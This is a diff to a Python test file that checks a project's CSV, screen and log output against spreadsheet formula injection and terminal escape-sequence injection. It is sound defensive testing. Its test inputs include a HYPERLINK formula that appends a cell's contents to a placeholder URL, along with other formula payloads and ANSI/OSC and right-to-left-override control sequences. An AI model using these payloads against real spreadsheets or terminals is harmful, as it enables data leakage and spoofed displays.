@@ -5,9 +5,12 @@ from __future__ import annotations
 import csv
 import io
 import json
+import logging
 from collections.abc import Callable, Sequence
 from datetime import UTC, datetime
 from typing import IO, Any
+
+import pytest
 
 from orchestration.commands.sql_output import (
     MAX_TABLE_ROWS,
@@ -15,8 +18,11 @@ from orchestration.commands.sql_output import (
     shorten,
     write_csv,
     write_json,
+    write_raw_csv,
     write_table,
 )
+from orchestration.console import _Format
+from orchestration.screen import say
 
 TIME = datetime(2026, 11, 20, 1, 2, 3, 456000, tzinfo=UTC)
 
@@ -43,9 +49,51 @@ def test_json_of_no_rows_is_an_empty_array() -> None:
     assert json.loads(printed(write_json, ["a"])) == []
 
 
-def test_csv_is_read_back_as_it_was() -> None:
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("http://h/?"&A1,"click")',
+        *("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", '"=1"', "'=1", "＝1+1", "|calc"),
+    ],
+)
+def test_csv_of_a_hostile_title_opens_as_text(title: str) -> None:
+    text = printed(write_csv, ["title"], [title])
+    (_, (cell,)) = csv.reader(io.StringIO(text))
+    assert cell.startswith("'")
+    assert cell[1:].strip() == title.replace("\r", "\\r").strip()
+    (_, (raw,)) = csv.reader(io.StringIO(printed(write_raw_csv, ["title"], [title]), newline=""))
+    assert raw == title
+
+
+def test_csv_keeps_numbers_and_harmless_texts_as_they_are() -> None:
+    row = [-1.5, -3, None, "a - b", "1-2", "ё = е", [-1.0], True]
+    text = printed(write_csv, list("abcdefgh"), row)
+    assert text.splitlines()[1] == "-1.5,-3,,a - b,1-2,ё = е,[-1.0],True"
+
+
+def test_csv_can_not_drive_a_terminal() -> None:
+    hostile = "\x1b]0;owned\x07\x1b[2J\u202egpj.exe\x9b31m"
+    text = printed(write_csv, [hostile], [hostile], [f"of two\nlines {hostile}"])
+    assert not set(text) & set("\x1b\x07\u202e\x9b")
+    assert "\\x1b]0;owned" in text
+    assert "of two\nlines" in text
+
+
+def test_what_is_said_on_screen_can_not_drive_the_terminal(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    say("kadr: /films/\x1b[2J\x1b]0;owned\x07.mp4\n  is damaged")
+    assert capsys.readouterr().out == "kadr: /films/\\x1b[2J\\x1b]0;owned\\x07.mp4\n  is damaged\n"
+
+
+def test_a_step_logs_a_title_that_can_not_drive_the_terminal() -> None:
+    record = logging.LogRecord("kadr", logging.INFO, "", 0, "read \x1b[2J\u202e", (), None)
+    assert "\x1b" not in _Format("library").format(record)
+
+
+def test_raw_csv_is_read_back_as_it_was() -> None:
     title = 'a "quoted", <b>title</b>\nof two lines; \0'
-    text = printed(write_csv, ["title", "vector", "missing"], [title, [1.0, 2.5], None])
+    text = printed(write_raw_csv, ["title", "vector", "missing"], [title, [1.0, 2.5], None])
     assert list(csv.reader(io.StringIO(text))) == [
         ["title", "vector", "missing"],
         [title, "[1.0, 2.5]", ""],
